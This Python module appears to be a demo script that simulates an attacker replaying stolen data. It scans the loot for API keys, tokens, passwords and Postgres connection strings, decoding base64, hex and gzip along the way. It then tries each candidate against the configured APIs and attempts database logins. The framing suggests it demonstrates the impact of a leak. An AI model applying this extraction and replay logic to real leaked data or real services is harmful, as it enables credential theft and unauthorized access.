"""Another process that was handed everything the thief got, and tries it: ``python -m examples.demo.replay`` on stdin.

Reads ``{"loot": hex, "apis": {name: url}, "database": host:port/name}`` and prints how many logins it was given. What
the services accepted is counted in their own logs.
"""

from __future__ import annotations

import asyncio
import base64
import binascii
import json
import re
import sys
import zlib
from collections.abc import Iterator
from urllib.parse import unquote

from examples.demo.calls import HEADERS, Api, query

MAX_CANDIDATES = 250
_NAMED = re.compile(
    rb"(?:KEY|TOKEN|SECRET|Bearer|Api-Key|PASSWORD)[\"']?[=: ]+[\"']?([A-Za-z0-9_.\-]{12,200})", re.IGNORECASE
)
_WORD = re.compile(rb"[A-Za-z0-9_\-]{24,200}")
_DSN = re.compile(rb"postgres(?:ql)?://([^:/\s\"']+):([^@\s\"']+)@[^\s\"']+")


def candidates(loot: bytes) -> list[str]:
    """Return what looks like a key, the likeliest first, each once."""
    found = dict.fromkeys(hit for text in (loot, *_decoded(loot)) for hit in _NAMED.findall(text))
    found |= dict.fromkeys(hit for text in (loot, *_decoded(loot)) for hit in _WORD.findall(text))
    return [word.decode() for word in found][:MAX_CANDIDATES]


def _decoded(loot: bytes) -> Iterator[bytes]:
    for word in _WORD.findall(loot)[:2_000]:
        for decode in (base64.urlsafe_b64decode, bytes.fromhex):
            try:
                yield decode(word.decode())
            except (binascii.Error, ValueError):
                continue
    for at in range(len(loot)):
        if loot[at : at + 2] == b"\x1f\x8b":
            try:
                yield zlib.decompressobj(31).decompress(loot[at:], 1 << 20)
            except zlib.error:
                continue


def _use(api: Api) -> None:
    assert api.name in HEADERS  # noqa: S101 - a typo here would try nothing
    api.call("GET", query("/v1/search", q="replay"))


async def _logins(loot: bytes, address: str) -> int:
    import asyncpg

    given = 0
    for user, password in dict.fromkeys(_DSN.findall(loot)):
        try:
            session = await asyncpg.connect(
                f"postgresql://{user.decode()}@{address}", password=unquote(password.decode()), ssl=False, timeout=3
            )
        except (asyncpg.PostgresError, OSError, ValueError):
            continue
        given += 1
        await session.close()
    return given


def main() -> int:
    """Try everything."""
    told = json.load(sys.stdin)
    loot = bytes.fromhex(told["loot"])
    words = candidates(loot)
    for name, url in told["apis"].items():
        for word in words:
            _use(Api(name, url, word))
    logins = asyncio.run(_logins(loot, told["database"]))
    sys.stdout.write(json.dumps({"candidates": len(words), "logins": logins}) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
